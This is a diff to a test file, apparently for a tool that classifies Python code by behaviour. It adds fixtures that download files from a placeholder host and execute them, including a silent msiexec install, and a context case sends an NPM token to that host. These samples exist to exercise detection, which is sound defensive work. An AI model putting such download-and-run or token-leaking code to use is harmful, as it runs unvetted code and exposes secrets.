@@ -215,6 +215,31 @@ describe('python: what comes in, what was written, class bodies', () => {
       ['write-executable', 'run-program', 'download-file hidden', 'run-downloaded'],
     ],
     [
+      'a download as the argument of a program of its own',
+      'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/d.bz2", "d.bz2")\nos.system("wikiextractor d.bz2 -o out")',
+      ['download-file', 'run-shell', 'run-program'],
+    ],
+    [
+      'a download unpacked',
+      'import subprocess, urllib.request\nurllib.request.urlretrieve("https://host.invalid/d.tgz", "/srv/d.tgz")\nsubprocess.run(["tar", "xf", "/srv/d.tgz"])\nsubprocess.run(["python", "own.py", "/srv/d.tgz"])',
+      ['download-file', 'run-program', 'decompress', 'run-program', 'run-own-file'],
+    ],
+    [
+      'a download as the script of an interpreter, a path with backslashes',
+      'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/a.py", "C:\\\\Users\\\\a.py")\nos.system("start /b python C:\\\\Users\\\\a.py")',
+      ['download-file', 'run-downloaded'],
+    ],
+    [
+      'a download whose path has a space, unquoted',
+      'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/a.exe", "C:/Program Files/a.exe")\nos.system("C:/Program Files/a.exe --quiet")',
+      ['download-file', 'run-downloaded'],
+    ],
+    [
+      'a download handed to the installer of Windows',
+      'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/a.msi", "a.msi")\nos.system("msiexec /qn /i a.msi")',
+      ['download-file', 'run-downloaded'],
+    ],
+    [
       'a script for Node written and run',
       'import subprocess\nopen("/tmp/a.js", "w").write("require(\'https\').get(\'https://host.invalid/\' + process.env.NPM_TOKEN)")\nsubprocess.run(["node", "/tmp/a.js"])',
       ['write-executable', 'run-program', 'http-send hidden'],
